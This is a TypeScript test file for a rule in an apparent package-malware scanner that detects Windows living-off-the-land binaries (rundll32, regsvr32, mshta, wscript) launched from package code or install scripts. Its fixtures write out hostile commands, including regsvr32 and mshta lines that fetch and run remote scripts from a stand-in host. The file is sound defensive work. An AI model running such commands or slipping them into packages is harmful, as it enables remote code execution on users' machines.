import { describe, expect, it } from 'vitest';
import type { CodeFact } from '../../analysis/types.js';
import { at, call, fileStats, packageFacts, str } from '../rule-test-kit.js';
import { processLolbinExec as rule } from './process-lolbin-exec.js';

const run = (...args: string[]) => call('child_process.exec', 'process', at('a.js', 2), args);

describe('process-lolbin-exec', () => {
  it.each([
    ['rundll32 node-gyp.dll,main'],
    ['regsvr32 /s /i:http://x.invalid/a.sct scrobj.dll'],
    ['mshta http://x.invalid/a.hta'],
    ['wscript.exe //B payload.js'],
    ['cmd /c start /b RUNDLL32.EXE x.dll,Start'],
  ])('reports %s at medium confidence', (command) => {
    expect(rule.run(packageFacts({ code: [run(command)] })).map((f) => f.confidence)).toEqual(['medium']);
  });

  it('reports a spawn of rundll32 whose arguments did not fold only beside a shipped PE', () => {
    expect(rule.run(packageFacts({ code: [run('rundll32', '', '')] }))).toEqual([]);
    const findings = rule.run(
      packageFacts({
        files: [fileStats('a.js'), fileStats('x.dll', { binary: 'pe' })],
        code: [run('rundll32', '', '')],
      }),
    );
    expect(findings.map((f) => f.confidence)).toEqual(['high']);
  });

  it('is high confidence when the package ships a PE file', () => {
    const findings = rule.run(
      packageFacts({
        files: [fileStats('a.js'), fileStats('x.dll', { binary: 'pe' })],
        code: [run('rundll32 x.dll,main')],
      }),
    );
    expect(findings.map((f) => f.confidence)).toEqual(['high']);
  });

  it('reads install scripts and the lolbin-command shape', () => {
    const shape: CodeFact = {
      kind: 'shape',
      shape: 'lolbin-command',
      detail: 'rundll32 ',
      at: at('a.js', 4),
    };
    const findings = rule.run(
      packageFacts({
        manifest: { installScripts: { install: 'rundll32 node-gyp.dll,main' } },
        code: [shape],
      }),
    );
    expect(findings).toHaveLength(2);
  });

  it.each([
    ['a URL opener', [run('rundll32 url.dll,FileProtocolHandler https://x.invalid')]],
    ['WScript objects in browser code', [str('new ActiveXObject("WScript.Shell")', at('a.js'))]],
    ['a word containing a binary name', [run('echo myrundll32 x')]],
  ])('is silent for %s', (_, code) => {
    expect(rule.run(packageFacts({ code: code as CodeFact[] }))).toEqual([]);
  });
});
